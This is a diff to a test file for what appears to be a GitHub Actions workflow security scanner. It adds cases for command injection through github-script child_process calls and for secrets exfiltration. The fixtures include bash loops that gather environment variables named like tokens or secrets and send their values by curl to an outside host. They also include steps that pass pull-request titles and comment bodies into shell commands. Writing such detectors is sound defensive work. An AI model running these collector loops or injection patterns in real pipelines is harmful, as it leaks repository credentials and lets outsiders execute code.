@@ -168,6 +168,41 @@ ${job(`      - uses: actions/github-script@${SHA}
     expect(only(viaEnv, 'gha-template-injection')).toEqual([['gha-template-injection', 'high', 13]]);
   });
 
+  it('reports github-script that runs outsider text through child_process under another name, or passes it where it can be an option', () => {
+    const workflow = `on: pull_request_target
+permissions: {}
+${job(`      - uses: actions/github-script@${SHA}
+        with:
+          script: |
+            const util = require('util');
+            const proc = require('child_process');
+            const { execSync: sh, exec } = require('child_process');
+            const run = util.promisify(proc.exec);
+            const run2 = promisify(require('node:child_process').exec);
+            const run3 = util.promisify(exec);
+            const title = context.payload.pull_request.title;
+            await run(\`git commit -m "\${title}"\`);
+            await run2(\`echo \${context.payload.comment.body}\`);
+            await run3(\`echo \${title}\`);
+            sh(\`echo \${title}\`);
+            proc.execSync(\`echo \${title}\`);
+`)}`;
+    expect(only(workflow, 'gha-template-injection').map(([, s, l]) => `${s}:${l}`)).toEqual(['high:17', 'high:18', 'high:19', 'high:20', 'high:21']);
+    const option = `on: issue_comment
+permissions: {}
+${job(`      - uses: actions/github-script@${SHA}
+        with:
+          script: |
+            const { execFileSync, spawnSync } = require('child_process');
+            const body = context.payload.comment.body;
+            execFileSync('git', ['fetch', 'origin', body]);
+            spawnSync('/usr/bin/tar', ['-xf', 'a.tar', \`\${context.payload.issue.title}\`]);
+            await exec.exec('git', ['log', context.payload.issue.title]);
+`)}`;
+    expect(only(option, 'gha-template-injection').map(([, s, l]) => `${s}:${l}`)).toEqual(['high:12', 'high:13', 'high:14']);
+    expect(extractWorkflow(option, '.github/workflows/x.yml').findings?.find((f) => f.id === 'gha-template-injection')?.title).toContain('can be an option of git');
+  });
+
   it('does not report github-script that posts outsider text through the API or passes it without a shell', () => {
     const workflow = `on: pull_request_target
 permissions: {}
@@ -179,7 +214,18 @@ ${job(`      - uses: actions/github-script@${SHA}
             const title = pr.title;
             await github.rest.issues.createComment({ ...context.repo, issue_number: pr.number, body: \`Thanks for "\${title}"\` });
             execFileSync('git', ['log', '--grep', title]);
+            execFileSync('git', ['commit', '-m', title]);
+            execFileSync('git', ['fetch', 'origin', '--', title]);
+            execFileSync('gh', ['pr', 'comment', pr.number, '--body', title]);
+            execFileSync('git', ['checkout', \`refs/heads/\${title}\`]);
+            const backport = \`backport-\${pr.number}-\${title}\`;
+            execFileSync('git', ['push', 'origin', backport]);
             spawn('git', ['checkout', pr.head.ref]);
+            const util = require('util');
+            const run = util.promisify(setTimeout);
+            const note = pr.title;
+            await run(note);
+            const check = /^\\/run (.+)$/.exec(title);
             execSync(\`gh pr checkout \${pr.number} && git log -1 \${pr.head.sha}\`);
             await exec.exec(\`git fetch origin \${pr.head.ref}\`);
             const m = /^\\/deploy (\\w+)$/.exec(context.payload.pull_request.body);
@@ -520,6 +566,30 @@ describe('gha-secrets-exfiltration', () => {
       ['gha-secrets-exfiltration', 'high', 8],
       ['gha-secrets-exfiltration', 'high', 12],
     ]);
+  });
+
+  it('reports a step that picks the variables named like secrets, reads their values and sends them (compgen and ${!v}), critical', () => {
+    const sent = `on: push\n${job(`      - name: stats
+        run: |
+          for v in $(compgen -e | grep -iE 'token|secret|key'); do
+            echo "$v=\${!v}" >> /tmp/o
+          done
+          curl -s -X POST -d @/tmp/o https://stats.build-insights.dev/c
+      - run: for v in $(compgen -v | grep SECRET); do curl -s "https://c.build-insights.dev/?k=$v&v=\${!v}"; done
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'critical', 8],
+      ['gha-secrets-exfiltration', 'critical', 12],
+    ]);
+    // The log's masks, names alone, a listing filtered by no secret's word, a file's names: not a collector.
+    const quiet = `on: push\n${job(`      - run: |
+          for v in $(compgen -e | grep -iE '_TOKEN$'); do echo "::add-mask::\${!v}"; done
+          compgen -e | grep -i token || true
+          env | sort
+          grep TOKEN .env.example
+          curl -sSf -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user
+`)}`;
+    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
   it('reads the same send written as an inline script (python -c, node -e, shell: python) or a raw socket (nc, /dev/tcp), high', () => {
